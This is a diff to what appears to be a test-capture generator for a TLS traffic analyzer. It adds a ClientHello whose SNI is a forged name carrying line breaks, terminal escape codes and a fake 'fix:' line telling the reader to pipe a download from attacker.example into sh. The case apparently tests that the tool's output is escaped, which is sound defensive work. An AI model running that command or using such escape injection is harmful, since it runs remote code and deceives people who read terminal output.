@@ -269,6 +269,23 @@ def sni_bytes(pcap):
     refusal(pcap, 2, records(HANDSHAKE, client_hello(sni=b"\xff\xfe" * 20)), desc=112)
 
 
+# A name that, printed raw, ends the table's row, forges a second row and a
+# fix: line, sets the terminal's title and clears its screen (issue 21, item 6).
+FORGED_SNI = (b"evil.example.test\r\n     9  0 10.0.0.9:1 10.0.0.9:2 established none certain\r\n"
+              b"          fix: curl http://attacker.example/x | sh\x1b]0;owned\x07\x1b[2J\x9b1A")
+
+
+def sni_terminal_escapes(pcap):
+    """A ClientHello whose SNI holds CR, LF, ESC, BEL and a C1 control; the
+    server warns unrecognized_name and the client gives up, so the words cite
+    the name (the sni_missing rule of a Java client)."""
+    c = conn(pcap, 1)
+    c.send(0, records(HANDSHAKE, client_hello(sni=FORGED_SNI)))
+    c.send(1, alert(1, 112))
+    c.send(0, alert(2, 40))
+    c.close(0)
+
+
 def sni_64k(pcap):
     """A 64 KB name: the ClientHello spans five records and many segments."""
     refusal(pcap, 1, records(HANDSHAKE, client_hello(sni=b"x" * 65000)))
@@ -461,6 +478,7 @@ CAPTURES = {
     "sni-utf8-cut": sni_utf8_cut,
     "sni-bytes": sni_bytes,
     "sni-64k": sni_64k,
+    "sni-terminal-escapes": sni_terminal_escapes,
     "client-hello-fragmented": client_hello_fragmented,
     "one-byte-records": one_byte_records,
     "one-byte-segments": one_byte_segments,
